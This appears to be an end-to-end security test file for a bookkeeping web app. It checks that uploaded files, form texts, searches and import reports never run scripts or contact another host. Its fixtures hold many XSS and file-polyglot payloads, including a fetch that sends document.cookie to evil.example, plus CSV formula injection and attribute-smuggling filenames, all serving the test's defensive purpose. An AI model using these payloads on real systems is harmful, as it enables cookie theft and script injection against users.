// Files, names and texts that try to run something when they are looked at (security.md T-B1): as files on a record and
// in their previews, in every text field of many forms, in lists, views, papers, History and the report of an import.
// Nothing of it runs, nothing is asked of another host, and our own pages have nothing to complain of.

import assert from 'node:assert/strict';
import { capability } from '../harness/capability.mjs';
import { makesCustomer } from './steps.mjs';

/** What every payload tries to do. */
const ACT = "window.__pwned=1;try{top.__pwned=1}catch(e){};fetch('https://evil.example/'+document.cookie)";
const EVIL = 'https://evil.example/x';
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

/**
 * A PDF that wants to run a script and to open an address when it is shown. Scripts of PDFs run in Chromium's own viewer,
 * which lets them say something and reach neither the page nor a host.
 */
const PDF = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${ACT.replaceAll(/[()]/g, '\\$&')})>>
/AA<</O<</S/URI/URI(${EVIL})>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** Files, each with a type that its sender claims. */
const FILES = [
  ['script.svg', 'image/svg+xml', `<svg ${SVG}><script>${ACT}</script></svg>`],
  ['onload.svg', 'image/svg+xml', `<svg ${SVG} onload="${ACT}"/>`],
  ['foreign.svg', 'image/svg+xml', `<svg ${SVG}><foreignObject><body ${XHTML} onload="${ACT}"/></foreignObject></svg>`],
  ['animate.svg', 'image/svg+xml', `<svg ${SVG}><a><animate attributeName="href" values="javascript:${ACT}"/></a></svg>`],
  ['image.svg', 'image/svg+xml', `<svg ${SVG}><image href="${EVIL}"/><use xlink:href="${EVIL}#a"/></svg>`],
  ['svg.png', 'image/png', `<svg ${SVG}><script>${ACT}</script></svg>`],
  ['page.html', 'text/html', `<script>${ACT}</script><img src=x onerror="${ACT}">`],
  ['page.htm', 'image/png', `<!doctype html><body onload="${ACT}">`],
  ['refresh.html', 'text/html', `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="https://evil.example/">`],
  ['frame.html', 'text/html', `<iframe srcdoc="<script>${ACT}</script>"></iframe><iframe src="javascript:${ACT}">`],
  ['form.html', 'text/html', `<form action="${EVIL}"><input></form><script>document.forms[0].submit()</script>`],
  ['page.txt', 'text/plain', `<html><script>${ACT}</script></html>`],
  ['page', 'application/octet-stream', `<html><script>${ACT}</script></html>`],
  ['page.xhtml', 'application/xhtml+xml', `<html ${XHTML}><script>${ACT}</script></html>`],
  ['page.xml', 'text/xml', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${ACT}</x:script>`],
  ['style.xml', 'text/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${EVIL}"?><a/>`],
  ['sheet.xsl', 'text/xsl', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`],
  ['page.mhtml', 'multipart/related', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${ACT}</script>`],
  ['open.pdf', 'application/pdf', PDF],
  ['page.pdf', 'application/pdf', `<html><script>${ACT}</script>%PDF-1.4</html>`],
  ['late.pdf', 'text/html', `${'<!-- -->'.repeat(20)}<script>${ACT}</script>\n${PDF}`],
  ['both.gif', 'image/gif', `GIF89a/*${'\0'.repeat(8)}*/=1;${ACT}`],
  ['both.png', 'text/html', Buffer.concat([PIXEL, Buffer.from(`<script>${ACT}</script>`)])],
  ['code.js', 'text/javascript', ACT],
  ['look.css', 'text/css', `@import "${EVIL}";body{background:url(${EVIL})}`],
  ['sums.csv', 'text/csv', `=HYPERLINK("${EVIL}"),<script>${ACT}</script>`],
  [`"><img src=x onerror=window.__pwned=1>.png`, 'image/png', PIXEL],
  [`x' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1.txt`, 'text/plain', 'text'],
];

/** Texts for everything that takes one. */
const TEXTS = [
  `<script>${ACT}</script>`,
  `"><img src=x onerror="${ACT}">`,
  `'><svg onload='window.__pwned=1'>`,
  `</title></textarea></script><svg/onload=window.__pwned=1>`,
  `" autofocus onfocus="window.__pwned=1" x="`,
  `javascript:window.__pwned=1`,
  `<iframe src="${EVIL}"></iframe><link rel=stylesheet href="${EVIL}">`,
  `{{constructor.constructor('window.__pwned=1')()}}\${window.__pwned=1}<%= 7*7 %>`,
  `<style>@import "${EVIL}"</style><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<math><mtext><table><mglyph><style><!--</style><img src onerror=window.__pwned=1>`,
  `\u202E<img src=x onerror=window.__pwned=1>\u2066`,
  `=HYPERLINK("${EVIL}")<a href="javascript:window.__pwned=1" onclick="window.__pwned=1">x</a>`,
];

/** Kinds of record whose forms take texts. */
const SLUGS = ['customers', 'suppliers', 'footers', 'inventory-items', 'journal-entries', 'sales-invoices', 'projects'];

/** Notes whatever runs, asks for another host or wants to be answered, on any page of a context. */
function watched(context, server) {
  const found = [];
  context.on('dialog', (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    return dialog.dismiss().catch(() => {});
  });
  context.on('request', (request) => {
    const url = request.url();
    const isOwn = url.startsWith(server.url) || url.startsWith('data:') || url.startsWith('blob:');
    // Chromium shows PDFs with pages of its own.
    if (!isOwn && !/^chrome(-extension)?:/.test(url)) found.push(`asked another host: ${url}`);
  });
  return found;
}

/** Nothing ran in any frame. */
async function isUntouched(page, at) {
  for (const frame of page.frames()) {
    const ran = await frame.evaluate(() => window.__pwned).catch(() => undefined);
    assert.equal(ran, undefined, `${at}: ${frame.url()}`);
  }
}

/** Opens an address; a download is as good as a page. */
async function looksAt(page, address) {
  const answer = await page.goto(address, { waitUntil: 'load' }).catch((error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error;
  });
  assert.ok(!answer || answer.status() < 500, `${address}: ${answer?.status()}`);
  await isUntouched(page, address);
}

/** Every field that takes a text, and those of them that take any. */
const ALL = 'main form input[type="text"]:not([list]), main form textarea';
const FREE = 'main form [name="Name"], main form textarea';

/** Writes a text into these fields of the form that is open, and sends it. */
async function fills(bookkeeper, text, fields) {
  const { page } = bookkeeper;
  const name = await page.evaluate(([value, selector]) => {
    const fields = document.querySelectorAll(selector);
    for (const field of fields) field.value = value;
    // What the browser would refuse is for the program to refuse.
    for (const form of document.forms) form.noValidate = true;
    return fields[0]?.name;
  }, [text, fields]);
  if (!name) return false;
  await Promise.all([page.waitForEvent('load'), bookkeeper.sendFormWith(name)]);
  return true;
}

/** The addresses of a page that lead deeper below one. */
function links(page, selector) {
  return page.locator(selector).evaluateAll((all) => [...new Set(all.map((it) => it.getAttribute('href')))]);
}

capability('Hostile content', (scenario) => {
  scenario('files on a record run nowhere, neither opened nor in their previews', async ({ page, bookkeeper, server }) => {
    const { business, record } = await makesCustomer(bookkeeper, TEXTS[1]);
    await page.goto(record);
    const input = page.locator('input[type="file"][name="files"]').first();
    const all = FILES.map(([name, mimeType, bytes]) => ({ name, mimeType, buffer: Buffer.from(bytes) }));
    await input.setInputFiles(all);
    await bookkeeper.sendFormWith('files');
    await page.goto(`/businesses/${business}/attachments`);
    const files = await links(page, `main a[href*="/attachments/"]`);
    const own = [...new Set(files.map((it) => /^.*\/attachments\/[0-9a-f-]{36}/.exec(it)?.[0]).filter(Boolean))];
    assert.equal(own.length, FILES.length);
    // What is opened as itself may be complained of by the browser; our own pages may not.
    const second = await page.context().newPage();
    const found = watched(page.context(), server);
    for (const address of own) {
      await looksAt(second, address);
      await looksAt(second, `${address}/preview`);
    }
    await second.close();
    for (const address of [record, `/businesses/${business}/attachments`, `/businesses/${business}/history`]) {
      await looksAt(page, address);
    }
    assert.deepEqual(found, []);
  });

  scenario('texts stand where they are shown and do nothing', async ({ page, bookkeeper, server }) => {
    const found = watched(page.context(), server);
    const business = await bookkeeper.createsBusiness(TEXTS[3]);
    const home = `/businesses/${business}`;
    let sent = 0;
    for (const [at, slug] of SLUGS.entries()) {
      for (const text of at === 0 ? TEXTS : TEXTS.slice(at, at + 2)) {
        const answer = await page.goto(`${home}/records/${slug}/new`);
        if (answer.status() !== 200) continue;
        if (await fills(bookkeeper, text, at === 0 ? FREE : ALL)) sent += 1;
        await isUntouched(page, `${slug}: ${text}`);
      }
      await looksAt(page, `${home}/records/${slug}?search=${encodeURIComponent(TEXTS[at])}`);
    }
    assert.ok(sent >= 16, `${sent} forms were sent`);
    await page.goto(`${home}/records/customers`);
    const records = await links(page, 'main table a[href*="/record/"]');
    assert.ok(records.length >= 10, `${records.length} records were made`);
    for (const record of records.slice(0, 12)) {
      await looksAt(page, record.split('?')[0]);
    }
    for (const rest of ['', '/history', '/settings', '/reports', '/reports/trial-balance', '/attachments', '/backups/new']) {
      await looksAt(page, home + rest);
    }
    for (const text of TEXTS) {
      await looksAt(page, `/nowhere/${encodeURIComponent(text)}?back=${encodeURIComponent(text)}`);
      await looksAt(page, `${home}/history?search=${encodeURIComponent(text)}`);
    }
    assert.deepEqual(found, []);
  });

  scenario('a file that is imported tells its names in the report and does nothing', async (world) => {
    const { page, bookkeeper, folder, server } = world;
    const found = watched(page.context(), server);
    const business = await bookkeeper.createsBusiness(TEXTS[1]);
    const { file } = await bookkeeper.makesBackup(business, folder);
    await bookkeeper.previewsImport(file);
    await page.waitForURL(/\/imports\/[^/]+$/);
    await page.locator('form[action$="/confirmation"]').first().waitFor();
    await isUntouched(page, 'the report of an import');
    assert.ok((await page.locator('main').innerText()).includes('onerror'), 'the name is told');
    await bookkeeper.confirmsImport();
    await looksAt(page, page.url());
    await looksAt(page, '/');
    assert.deepEqual(found, []);
  });
}, { languages: ['en'] });
